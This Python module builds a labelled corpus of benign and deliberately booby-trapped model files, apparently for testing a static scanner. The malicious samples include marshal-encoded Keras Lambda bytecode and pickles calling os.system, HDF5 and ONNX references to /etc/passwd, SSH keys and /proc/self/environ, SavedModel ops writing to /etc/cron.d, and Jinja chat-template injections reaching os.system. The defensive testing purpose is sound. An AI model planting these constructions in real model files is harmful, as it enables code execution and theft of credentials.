"""Labelled corpus of non-pickle model formats, benign and booby-trapped, built locally without Keras or TensorFlow.

``build_format_corpus(dest)`` writes every subject and returns one
:class:`corpora.payload_corpus.CorpusEntry` per subject (``expect`` is the verdict
the static scan must give). Keras ``.keras`` zips and SavedModel protobufs are
assembled by hand (JSON, and a tiny protobuf encoder here), HDF5 with h5py, ONNX
with ``onnx.helper``, GGUF with ``gguf.GGUFWriter``. Payloads are harmless (they
would touch a marker file or call ``os.getpid``) and never run: lambdas are only
``marshal.dumps``-ed, templates only written.

Families: Keras Lambda bytecode (v3 and legacy h5, ``keras_metadata.pb``), module
imports outside Keras (CVE-2025-1550), safe-mode gadgets, TFSMLayer, HDF5 external
links / virtual datasets / external storage, SavedModel file and Python ops,
checkpoint paths outside the folder, ONNX external data outside the folder, custom
op domains and oversized tensors, GGUF and Hugging Face chat-template injection,
NeMo/tar wrappers (pickle payloads inside, Hydra ``_target_``), nested archives,
symlink members, and 7z.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import struct
import tarfile
import zipfile
from pathlib import Path

from corpora import chat_templates
from corpora.payload_corpus import CorpusEntry


# ------------------------------------------------------------------ protobuf encoder (SavedModel, GraphDef)
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _f(num: int, value) -> bytes:
    """One field: int -> varint, bytes/str -> length-delimited."""
    if isinstance(value, int):
        return _varint(num << 3) + _varint(value)
    data = value.encode() if isinstance(value, str) else value
    return _varint(num << 3 | 2) + _varint(len(data)) + data


def _attr(key: str, value: bytes) -> bytes:
    return _f(5, _f(1, key) + _f(2, value))


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    return _f(1, _f(1, name) + _f(2, op) + b"".join(_f(3, i) for i in inputs) + attrs)


def _str_const(name: str, value: str) -> bytes:
    tensor = _f(1, 7) + _f(2, b"") + _f(8, value)  # DT_STRING, scalar shape, string_val
    return _node(name, "Const", (), _attr("value", _f(8, tensor)) + _attr("dtype", _f(6, 7)))


def _function(name: str, nodes: bytes) -> bytes:
    """A FunctionDef (signature name + node_def list); ``nodes`` are NodeDefs in field 3."""
    body = b""
    pos = 0
    # re-tag GraphDef node fields (1) as FunctionDef node_def fields (3)
    while pos < len(nodes):
        assert nodes[pos] == 0x0A
        pos += 1
        n = 0
        shift = 0
        while True:
            b = nodes[pos]
            pos += 1
            n |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                break
        body += _f(3, nodes[pos:pos + n])
        pos += n
    return _f(1, _f(1, _f(1, name)) + body)


def _benign_graph_nodes() -> bytes:
    return (_node("x", "Placeholder", (), _attr("dtype", _f(6, 1)))
            + _node("w", "VarHandleOp", (), _attr("shared_name", _f(2, "w")))
            + _node("w/Read", "ReadVariableOp", ("w",))
            + _node("MatMul", "MatMul", ("x", "w/Read"))
            + _node("saver_filename", "Placeholder", (), _attr("dtype", _f(6, 7)))
            + _str_const("save/tensor_names", "w")
            + _node("save/SaveV2", "SaveV2", ("saver_filename", "save/tensor_names"))
            + _node("save/RestoreV2", "RestoreV2", ("saver_filename", "save/tensor_names")))


def _saved_model(graph_nodes: bytes, library: bytes = b"") -> bytes:
    graph = graph_nodes + (_f(2, library) if library else b"") + _f(4, _f(1, 1087))
    meta_info = _f(4, "serve") + _f(5, "2.15.0")  # tags, tensorflow_version
    meta_graph = _f(1, meta_info) + _f(2, graph)
    return _f(1, 1) + _f(2, meta_graph)


def _keras_metadata(layers: list[dict]) -> bytes:
    out = b""
    for i, layer in enumerate(layers):
        out += _f(1, _f(1, i + 1) + _f(2, f"root.layer-{i}") + _f(3, "_tf_keras_layer") + _f(4, json.dumps(layer)))
    return out


# ------------------------------------------------------------------ Keras configs
def _lambda_code() -> str:
    f = lambda x: __import__("os").system("touch keras_lambda_marker") or x  # noqa: E731 - never called
    return base64.b64encode(marshal.dumps(f.__code__)).decode()


def _v3(cls: str, name: str, config: dict | None = None, module: str = "keras.layers") -> dict:
    return {"module": module, "class_name": cls, "config": {"name": name, **(config or {})}, "registered_name": None}


def _v3_model(layers: list[dict]) -> dict:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True,
                       "layers": [_v3("InputLayer", "input_layer", {"batch_shape": [None, 4], "dtype": "float32"})]
                       + layers},
            "build_config": {"input_shape": [None, 4]},
            "compile_config": {"optimizer": _v3("Adam", "adam", {"learning_rate": 0.001}, "keras.optimizers"),
                               "loss": "mse"}}


def _relu() -> dict:
    return {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}


def _dense(name: str = "dense", activation: object = None) -> dict:
    return _v3("Dense", name, {"units": 2, "activation": activation or _relu(), "use_bias": True,
                               "kernel_initializer": _v3("GlorotUniform", "glorot", {"seed": None},
                                                         "keras.initializers")})


def _weights_h5() -> bytes:
    import h5py
    import numpy as np

    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        g = f.create_group("layers/dense/vars")
        g["0"] = np.zeros((4, 2), dtype="float32")
        g["1"] = np.zeros((2,), dtype="float32")
        f.create_group("optimizer/vars")
    return bio.getvalue()


def _keras_zip(cfg: dict | bytes, weights: bytes | None = None) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}))
        z.writestr("config.json", cfg if isinstance(cfg, bytes) else json.dumps(cfg))
        z.writestr("model.weights.h5", weights if weights is not None else _weights_h5())
    return bio.getvalue()


def _legacy_h5(path: Path, layers: list[dict], *, extra=None) -> None:
    import h5py
    import numpy as np

    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input_1"}}] + layers}}
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg)
        g = f.create_group("model_weights/dense/dense")
        g["kernel:0"] = np.zeros((4, 2), dtype="float32")
        g["bias:0"] = np.zeros((2,), dtype="float32")
        if extra:
            extra(f)


def _k2_dense() -> dict:
    return {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True}}


def _k2_lambda() -> dict:
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [_lambda_code(), None, None], "function_type": "lambda",
                                               "module": "__main__", "output_shape": None, "arguments": {}}}


# ------------------------------------------------------------------ payload pickle (for archive members)
def _payload_pickle(cmd: str = "touch archive_marker") -> bytes:
    c = cmd.encode()
    return b"\x80\x02cposix\nsystem\n(X" + struct.pack("<I", len(c)) + c + b"tR."


def _tar(members: dict[str, bytes], *, links: dict[str, str] | None = None, gz: bool = False) -> bytes:
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz" if gz else "w") as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 1_700_000_000
            tf.addfile(ti, io.BytesIO(data))
        for name, target in (links or {}).items():
            ti = tarfile.TarInfo(name)
            ti.type = tarfile.SYMTYPE
            ti.linkname = target
            tf.addfile(ti)
    return bio.getvalue()


def _torch_state_dict_bytes() -> bytes:
    import torch

    bio = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(4, 4), "encoder.bias": torch.zeros(4)}, bio)
    return bio.getvalue()


def _gguf(path: Path, template: str | None, *, extra_kv: dict | None = None) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("tiny")
    w.add_context_length(128)
    w.add_tokenizer_model("gpt2")
    w.add_token_list(["<s>", "</s>", "a", "b"])
    if template is not None:
        w.add_chat_template(template)
    for k, v in (extra_kv or {}).items():
        w.add_string(k, v)
    w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _onnx_model(*, external: str | None = None, custom_domain: str | None = None, oversized: bool = False,
                subgraph_external: str | None = None, custom_op: str = "RunShell"):
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), name="W")
    if external:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", external), ("offset", "0"), ("length", "32")):
            e = w.external_data.add()
            e.key, e.value = k, v
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Y0"], name="matmul"),
             helper.make_node("Relu", ["Y0"], ["Y"], name="relu")]
    inits = [w]
    opsets = [helper.make_opsetid("", 17)]
    if custom_domain:
        nodes.append(helper.make_node(custom_op, ["Y"], ["Z"], name="custom", domain=custom_domain))
        opsets.append(helper.make_opsetid(custom_domain, 1))
    if oversized:
        big = TensorProto(name="huge", data_type=TensorProto.FLOAT, dims=[1 << 20, 1 << 20, 1 << 10])
        big.data_location = TensorProto.EXTERNAL
        for k, v in (("location", "huge.bin"),):
            e = big.external_data.add()
            e.key, e.value = k, v
        inits.append(big)
    if subgraph_external:
        t = numpy_helper.from_array(np.ones((2,), dtype=np.float32), name="C")
        t.ClearField("raw_data")
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = "location", subgraph_external
        then_g = helper.make_graph([helper.make_node("Constant", [], ["c"], value=t)], "then",
                                   [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [2])])
        else_g = helper.make_graph([helper.make_node("Constant", [], ["c"], value=numpy_helper.from_array(
            np.zeros((2,), dtype=np.float32)))], "else", [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [2])])
        nodes.append(helper.make_node("If", ["cond"], ["branch"], then_branch=then_g, else_branch=else_g, name="if"))
    graph = helper.make_graph(nodes, "tiny", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])], initializer=inits)
    model = helper.make_model(graph, opset_imports=opsets, producer_name="format-corpus")
    model.ir_version = 8
    return onnx, model


def write_sparse_gguf(path: Path, data_bytes: int, template: str | None = None) -> None:
    """A GGUF whose one F32 tensor declares ``data_bytes`` of data stored as a file hole (a multi-GB model's shape)."""
    import gguf
    import numpy as np

    n = data_bytes // 4
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("sparse")
    if template:
        w.add_chat_template(template)
    w.add_tensor_info("token_embd.weight", (n,), np.dtype(np.float32), n * 4)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_ti_data_to_file()
    w.close()
    with open(path, "r+b") as fh:
        fh.seek(0, 2)
        head = fh.tell()
        fh.truncate((head + 31) // 32 * 32 + n * 4)


def write_sparse_onnx(path: Path, data_bytes: int) -> None:
    """An ONNX model whose one initializer holds ``data_bytes`` of raw data stored as a file hole (no disk used):
    the shape of a real multi-GB ONNX file, for header-speed measurements."""
    n = data_bytes // 4
    node = _f(1, _f(1, "X") + _f(1, "W") + _f(2, "Y") + _f(3, "matmul") + _f(4, "MatMul"))
    tensor_head = _f(1, n) + _f(2, 1) + _f(8, "W")
    raw_tag = _varint(9 << 3 | 2) + _varint(n * 4)
    tensor_len = len(tensor_head) + len(raw_tag) + n * 4
    graph_head = node + _f(2, "big") + _varint(5 << 3 | 2) + _varint(tensor_len) + tensor_head + raw_tag
    graph_len = len(graph_head) + n * 4
    model_head = _f(1, 8) + _f(2, "format-corpus") + _f(8, _f(1, "") + _f(2, 17)) + _varint(7 << 3 | 2) \
        + _varint(graph_len) + graph_head
    with open(path, "wb") as fh:
        fh.write(model_head)
        fh.truncate(len(model_head) + n * 4)


def build_format_corpus(dest: Path) -> list[CorpusEntry]:  # noqa: C901 - one block per family
    """Write every subject under ``dest``; one entry each."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    out: list[CorpusEntry] = []

    def add(path: Path, label: str, family: str, expect: str, payload: str | None = None) -> Path:
        out.append(CorpusEntry(path, label, family, payload, label == "malicious", expect))
        return path

    def write(name: str, data: bytes) -> Path:
        p = dest / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        return p

    # ---- Keras v3 .keras
    add(write("keras_v3_benign.keras", _keras_zip(_v3_model([_dense()]))), "benign", "keras v3", "clean")
    code = _lambda_code()
    lam = _v3("Lambda", "evil_lambda", {"function": {"class_name": "__lambda__",
                                                      "config": {"code": code, "defaults": None, "closure": None}},
                                         "arguments": {}})
    add(write("keras_v3_lambda.keras", _keras_zip(_v3_model([lam, _dense()]))), "malicious",
        "keras v3 Lambda bytecode (CVE-2024-3660)", "malicious", "Lambda.evil_lambda")
    act = {"class_name": "__lambda__", "config": {"value": [code, None, None]}}
    add(write("keras_v3_lambda_activation.keras", _keras_zip(_v3_model([_dense("dense_act", act)]))), "malicious",
        "keras v3 __lambda__ activation", "malicious")
    os_fn = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    add(write("keras_v3_module_os.keras", _keras_zip(_v3_model([_dense("dense_os", os_fn)]))), "malicious",
        "keras v3 module outside keras (CVE-2025-1550)", "malicious", "os.system")
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
              "registered_name": "enable_unsafe_deserialization"}
    add(write("keras_v3_unsafe_toggle.keras", _keras_zip(_v3_model([_dense("d1", unsafe), lam]))), "malicious",
        "keras v3 safe_mode bypass (enable_unsafe_deserialization)", "malicious",
        "keras.config.enable_unsafe_deserialization")
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    add(write("keras_v3_get_file.keras", _keras_zip(_v3_model([_dense("d2", get_file)]))), "malicious",
        "keras v3 safe_mode bypass (get_file gadget)", "malicious", "keras.utils.get_file")
    import h5py

    wbio = io.BytesIO()
    with h5py.File(wbio, "w") as f:
        f.create_group("layers/dense/vars")["0"] = h5py.ExternalLink("/etc/passwd", "/x")
    add(write("keras_v3_weights_external_link.keras", _keras_zip(_v3_model([_dense()]), wbio.getvalue())),
        "malicious", "keras v3 weights h5 with an external link", "malicious")
    tfsm = _v3("TFSMLayer", "tfsm", {"filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"})
    add(write("keras_v3_tfsmlayer.keras", _keras_zip(_v3_model([tfsm]))), "malicious",
        "keras v3 TFSMLayer external SavedModel", "malicious")
    custom = _v3("MyBlock", "my_block", {"units": 3}, module="my_company.layers")
    custom["registered_name"] = "my_company>MyBlock"
    add(write("keras_v3_custom_class.keras", _keras_zip(_v3_model([custom]))), "benign",
        "keras v3 custom registered class (review)", "suspicious")
    add(write("keras_v3_bad_json.keras", _keras_zip(b'{"module": "keras", "class_name": "Sequential", ')), "benign",
        "keras v3 unparseable config", "inconclusive")
    src_lambda = {"class_name": "Lambda", "name": "lambda_src",
                  "config": {"name": "lambda_src", "function": [base64.b64encode(
                      b"__import__('os').getpid()").decode(), None, None], "function_type": "lambda"}}
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:  # no metadata.json: the config alone marks it as Keras
        z.writestr("config.json", json.dumps({"class_name": "Functional", "config": {"layers": [src_lambda]}}))
    add(write("keras_config_only_source_lambda.keras", bio.getvalue()), "malicious",
        "keras Lambda with base64 source text, config-only zip", "malicious", "Lambda.lambda_src")
    builtins_layer = {"class_name": "Dense", "name": "evil_dense", "module": "builtins", "config": {"units": 1}}
    fn_module = {"class_name": "Dense", "name": "dense_fn", "config": {"units": 1, "fn_module": "subprocess"}}
    add(write("keras_v3_builtins_module.keras", _keras_zip({"class_name": "Sequential", "config": {
        "layers": [builtins_layer]}})), "malicious", "keras layer module builtins", "malicious")
    add(write("keras_v3_fn_module.keras", _keras_zip({"class_name": "Sequential", "config": {
        "layers": [fn_module]}})), "malicious", "keras fn_module subprocess", "malicious")
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr("config.json", json.dumps(_v3_model([_dense()])))
        z.writestr("metadata.json", "{}")
        z.writestr("run.SH", "#!/bin/sh\necho hi\n")
    add(write("keras_v3_script_member.keras", bio.getvalue()), "benign", "keras zip with a shell script member (review)",
        "suspicious")
    folder = dest / "keras_folder_lambda"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(json.dumps(_v3_model([lam])))
    (folder / "metadata.json").write_text(json.dumps({"keras_version": "3.6.0"}))
    (folder / "model.weights.h5").write_bytes(_weights_h5())
    add(folder, "malicious", "keras folder (unzipped .keras) Lambda", "malicious", "Lambda.evil_lambda")

    # ---- legacy HDF5
    _legacy_h5(dest / "keras_h5_benign.h5", [_k2_dense()])
    add(dest / "keras_h5_benign.h5", "benign", "keras legacy h5", "clean")
    _legacy_h5(dest / "keras_h5_lambda.h5", [_k2_lambda(), _k2_dense()])
    add(dest / "keras_h5_lambda.h5", "malicious", "keras legacy h5 Lambda bytecode", "malicious", "Lambda.lambda")
    _legacy_h5(dest / "keras_h5_lambda_as_keras.keras", [_k2_lambda()])
    add(dest / "keras_h5_lambda_as_keras.keras", "malicious", "keras h5-based .keras Lambda", "malicious",
        "Lambda.lambda")
    fn_layer = {"class_name": "Lambda", "config": {"name": "lambda_fn", "function": "system",
                                                   "function_type": "function", "module": "os", "arguments": {}}}
    _legacy_h5(dest / "keras_h5_lambda_function.h5", [fn_layer])
    add(dest / "keras_h5_lambda_function.h5", "malicious", "keras legacy Lambda by name from module os",
        "malicious", "os.system")

    src_fn = {"class_name": "Lambda", "config": {"name": "lambda_text",
                                                 "function": "lambda x: eval('__import__(\"os\").getpid()')"}}
    _legacy_h5(dest / "keras_h5_lambda_source_text.h5", [_k2_dense(), src_fn])
    add(dest / "keras_h5_lambda_source_text.h5", "malicious", "keras legacy Lambda as plain source text", "malicious",
        "Lambda.lambda_text")

    import h5py
    import numpy as np

    with h5py.File(dest / "keras_h5_bad_structure.h5", "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {
            "layers": [{"class_name": "TimeDistributed", "config": "layers hidden in a string"}]}})
    add(dest / "keras_h5_bad_structure.h5", "benign", "keras h5 model_config not shaped as Keras writes it",
        "inconclusive")

    def ext_link(f):
        f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd", "/data")

    _legacy_h5(dest / "h5_external_link.h5", [_k2_dense()], extra=ext_link)
    add(dest / "h5_external_link.h5", "malicious", "hdf5 external link", "malicious")

    def vds(f):
        lay = h5py.VirtualLayout(shape=(4,), dtype="i8")
        lay[:] = h5py.VirtualSource("/home/victim/.ssh/id_rsa.h5", "data", shape=(4,))
        f.create_virtual_dataset("model_weights/virtual", lay)

    _legacy_h5(dest / "h5_virtual_dataset.h5", [_k2_dense()], extra=vds)
    add(dest / "h5_virtual_dataset.h5", "malicious", "hdf5 virtual dataset from another file", "malicious")

    def ext_storage(f):
        f.create_dataset("model_weights/ext", shape=(16,), dtype="u1", external=[("../../outside.bin", 0, 16)])

    _legacy_h5(dest / "h5_external_storage.h5", [_k2_dense()], extra=ext_storage)
    add(dest / "h5_external_storage.h5", "malicious", "hdf5 external raw storage", "malicious")
    with h5py.File(dest / "plain_weights.h5", "w") as f:
        f["w"] = np.zeros((3, 3), dtype="float32")
    add(dest / "plain_weights.h5", "benign", "hdf5 plain weights", "clean")
    add(write("h5_truncated.h5", (dest / "keras_h5_benign.h5").read_bytes()[:600]), "benign", "hdf5 truncated",
        "inconclusive")

    # ---- SavedModel / GraphDef
    def saved_model_dir(name: str, pb: bytes, keras_meta: bytes | None = None) -> Path:
        d = dest / name
        (d / "variables").mkdir(parents=True, exist_ok=True)
        (d / "saved_model.pb").write_bytes(pb)
        (d / "variables" / "variables.index").write_bytes(b"\x00" * 16)
        (d / "variables" / "variables.data-00000-of-00001").write_bytes(b"\x00" * 32)
        if keras_meta is not None:
            (d / "keras_metadata.pb").write_bytes(keras_meta)
        return d

    dense_meta = {"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 2}}
    add(saved_model_dir("savedmodel_benign", _saved_model(_benign_graph_nodes()), _keras_metadata([dense_meta])),
        "benign", "tf savedmodel", "clean")
    bad_nodes = (_benign_graph_nodes() + _str_const("path", "/etc/passwd") + _node("read", "ReadFile", ("path",))
                 + _str_const("out", "/tmp/dropped.sh") + _node("write", "WriteFile", ("out", "read")))
    add(saved_model_dir("savedmodel_readwrite", _saved_model(bad_nodes)), "malicious",
        "tf savedmodel ReadFile/WriteFile", "malicious")
    lib = _function("__inference_call_42", _node("py", "EagerPyFunc", ("x",), _attr("token", _f(2, "pyfunc_0"))))
    add(saved_model_dir("savedmodel_pyfunc", _saved_model(_benign_graph_nodes(), lib)), "malicious",
        "tf savedmodel PyFunc in function library", "malicious")
    outside = (_str_const("ckpt", "/etc/cron.d/evil") + _str_const("names", "w")
               + _node("save2", "SaveV2", ("ckpt", "names")))
    add(saved_model_dir("savedmodel_save_outside", _saved_model(_benign_graph_nodes() + outside)), "malicious",
        "tf savedmodel SaveV2 to a path outside the folder", "malicious")
    k2lam = {"name": "lambda", "class_name": "Lambda", **{"config": _k2_lambda()["config"]}}
    add(saved_model_dir("savedmodel_keras_lambda", _saved_model(_benign_graph_nodes()),
                        _keras_metadata([dense_meta, k2lam])), "malicious",
        "tf savedmodel keras_metadata.pb Lambda", "malicious", "Lambda.lambda")
    add(saved_model_dir("savedmodel_loadlibrary", _saved_model(_benign_graph_nodes() + _str_const("lib", "evil.so")
                                                               + _node("load", "LoadLibraryV2", ("lib",)))),
        "malicious", "tf savedmodel LoadLibrary", "malicious")
    add(saved_model_dir("savedmodel_string_payload", _saved_model(_benign_graph_nodes() + _node(
        "payload_node", "Const", (), _attr("payload", _f(2, "os.system('/bin/echo exploit')"))))), "malicious",
        "tf savedmodel Const string payload", "malicious")
    no_version = _f(2, _f(2, _node("Const", "Const") + _node("suspicious_op", "PyFunc")))  # no schema version
    add(saved_model_dir("savedmodel_pyfunc_noversion", no_version), "malicious",
        "tf savedmodel PyFunc, no schema version", "malicious")
    add(write("frozen_benign.pb", _benign_graph_nodes()), "benign", "tf frozen graph", "clean")
    add(write("frozen_matchingfiles.pb", _benign_graph_nodes() + _str_const("pat", "/home/*/.aws/*")
              + _node("glob", "MatchingFiles", ("pat",))), "malicious", "tf frozen graph MatchingFiles", "malicious")
    add(write("savedmodel_truncated/saved_model.pb", _saved_model(bad_nodes)[:-7]), "benign",
        "tf savedmodel truncated", "inconclusive")

    # ---- ONNX
    onnx, m = _onnx_model()
    (dest / "onnx_benign").mkdir(exist_ok=True)
    onnx.save(m, str(dest / "onnx_benign" / "model.onnx"))
    add(dest / "onnx_benign" / "model.onnx", "benign", "onnx", "clean")
    d = dest / "onnx_external_inside"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(external="weights.bin")[1], str(d / "model.onnx"))
    (d / "weights.bin").write_bytes(np.ones((4, 2), dtype=np.float32).tobytes())
    add(d, "benign", "onnx external data inside the folder", "clean")
    d = dest / "onnx_external_abs"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(external="/etc/passwd")[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx external data absolute path", "malicious")
    d = dest / "onnx_external_dotdot"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(external="../../home/victim/.ssh/id_rsa")[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx external data '..' path", "malicious")
    d = dest / "onnx_subgraph_external"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(subgraph_external="/proc/self/environ")[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx external data in an If subgraph", "malicious")
    d = dest / "onnx_custom_domain"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(custom_domain="com.attacker.ops")[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx custom operator domain (review)", "suspicious")
    d = dest / "onnx_python_op"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(custom_domain="ai.onnx.contrib", custom_op="PyOp")[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx Python custom op (PyOp)", "malicious")
    d = dest / "onnx_oversized"
    d.mkdir(exist_ok=True)
    onnx.save(_onnx_model(oversized=True)[1], str(d / "model.onnx"))
    add(d / "model.onnx", "malicious", "onnx oversized declared tensor (review)", "suspicious")
    add(write("onnx_truncated/model.onnx", (dest / "onnx_benign" / "model.onnx").read_bytes()[:-9]), "benign",
        "onnx truncated", "inconclusive")

    # ---- GGUF + chat templates
    for name, tpl in chat_templates.BENIGN.items():
        _gguf(dest / f"gguf_{name}.gguf", tpl)
        add(dest / f"gguf_{name}.gguf", "benign", f"gguf chat template {name}", "clean")
    _gguf(dest / "gguf_no_template.gguf", None)
    add(dest / "gguf_no_template.gguf", "benign", "gguf without template", "clean")
    for name, (tpl, expect) in chat_templates.HOSTILE.items():
        _gguf(dest / f"gguf_ssti_{name}.gguf", tpl)
        add(dest / f"gguf_ssti_{name}.gguf", "malicious", f"gguf chat template injection {name}", expect)
    _gguf(dest / "gguf_named_template.gguf", chat_templates.QWEN2,
          extra_kv={"tokenizer.chat_template.tool_use": chat_templates.HOSTILE["lipsum-globals"][0]})
    add(dest / "gguf_named_template.gguf", "malicious", "gguf named chat template injection", "malicious")
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr("archive/data.pkl", _payload_pickle("touch gguf_polyglot_marker"))
    add(write("gguf_zip_polyglot.gguf", (dest / "gguf_llama3.gguf").read_bytes() + bio.getvalue()), "malicious",
        "gguf with an appended zip holding a pickle (polyglot)", "malicious", "posix.system")
    add(write("gguf_truncated.gguf", (dest / "gguf_llama3.gguf").read_bytes()[:200]), "benign", "gguf truncated",
        "inconclusive")

    def hf_folder(name: str, template: str, as_file: bool) -> Path:
        d = dest / name
        d.mkdir(exist_ok=True)
        (d / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama"}))
        tok = {"bos_token": "<s>", "eos_token": "</s>", "tokenizer_class": "PreTrainedTokenizerFast"}
        if as_file:
            (d / "chat_template.jinja").write_text(template)
        else:
            tok["chat_template"] = template
        (d / "tokenizer_config.json").write_text(json.dumps(tok))
        _gguf(d / "model.gguf", None)
        return d

    add(hf_folder("hf_template_benign", chat_templates.LLAMA31_TOOLS, False), "benign",
        "hf folder tokenizer_config chat_template", "clean")
    add(hf_folder("hf_template_jinja_benign", chat_templates.QWEN25_TOOLS, True), "benign",
        "hf folder chat_template.jinja", "clean")
    add(hf_folder("hf_template_ssti", chat_templates.HOSTILE["cycler-globals"][0], False), "malicious",
        "hf folder tokenizer_config chat_template injection", "malicious")
    add(hf_folder("hf_template_jinja_ssti", chat_templates.HOSTILE["subclasses-walk"][0], True), "malicious",
        "hf folder chat_template.jinja injection", "malicious")
    for name, tpl in (("hex_bypass.json", chat_templates.HOSTILE["hex-escaped-dunders"][0]),
                      ("getattr_bypass.json", chat_templates.HOSTILE["getattr-global"][0])):
        add(write(f"templates/{name}", json.dumps({"tokenizer_class": "GPT2Tokenizer", "chat_template": tpl}).encode()),
            "malicious", f"tokenizer config JSON {name} chat template injection", "malicious")
    add(write("templates/multiple_templates.json", json.dumps({
        "chat_template": chat_templates.PHI3,
        "custom_chat_template": "{{ self.__init__.__globals__['os'].system('echo evil') }}"}).encode()),
        "malicious", "custom_chat_template key injection", "malicious")
    add(write("templates/benign_chatml.json", json.dumps({"chat_template": chat_templates.QWEN2}).encode()),
        "benign", "tokenizer config JSON chat template", "clean")
    add(write("templates/malicious_standalone.j2", b"{% for m in messages %}{{ m.content }}{% endfor %}\n"
              b"{{ cycler.__init__.__globals__.os.getpid() }}\n"), "malicious", "standalone .j2 template injection",
        "malicious")
    add(write("templates/benign_chat.j2", chat_templates.LLAMA3.encode()), "benign", "standalone .j2 template", "clean")
    add(write("templates/malicious_config.yaml", b"model_name: evil\nchat_template: \"{{ config.__class__.__init__"
              b".__globals__['os'].getpid() }}\"\n"), "malicious", "YAML config chat template injection", "malicious")
    d = dest / "hf_onnx_folder"
    d.mkdir(exist_ok=True)
    (d / "config.json").write_text(json.dumps({"model_type": "bert"}))
    onnx.save(_onnx_model()[1], str(d / "model.onnx"))
    add(d, "benign", "hf folder with onnx", "clean")

    # ---- archives: NeMo, tar, tar.gz, nested, symlinks, 7z
    sd = _torch_state_dict_bytes()
    good_yaml = b"name: tiny\ntarget: nemo.collections.asr.models.EncDecCTCModel\n" \
                b"encoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  feat_in: 64\n"
    add(write("nemo_benign.nemo", _tar({"./model_config.yaml": good_yaml, "./model_weights.ckpt": sd})), "benign",
        "nemo", "clean")
    add(write("nemo_pickle_payload.nemo", _tar({"./model_config.yaml": good_yaml,
                                                "./model_weights.ckpt": _payload_pickle()})), "malicious",
        "nemo tar with pickle payload", "malicious", "posix.system")
    bad_yaml = good_yaml + b"preprocessor:\n  _target_: os.system\n  command: touch nemo_marker\n"
    add(write("nemo_hydra_target.nemo", _tar({"./model_config.yaml": bad_yaml, "./model_weights.ckpt": sd})),
        "malicious", "nemo Hydra _target_ os.system", "malicious", "os.system")
    add(write("wrapped.tar.gz", _tar({"model/model.pkl": _payload_pickle()}, gz=True)), "malicious",
        "tar.gz wrapping a pickle payload", "malicious", "posix.system")
    inner = _tar({"ckpt/data.pkl": _payload_pickle()})
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        z.writestr("bundle/inner.tar", inner)
    add(write("zip_tar_nested.zip", bio.getvalue()), "malicious", "zip wrapping a tar wrapping a pickle", "malicious",
        "posix.system")
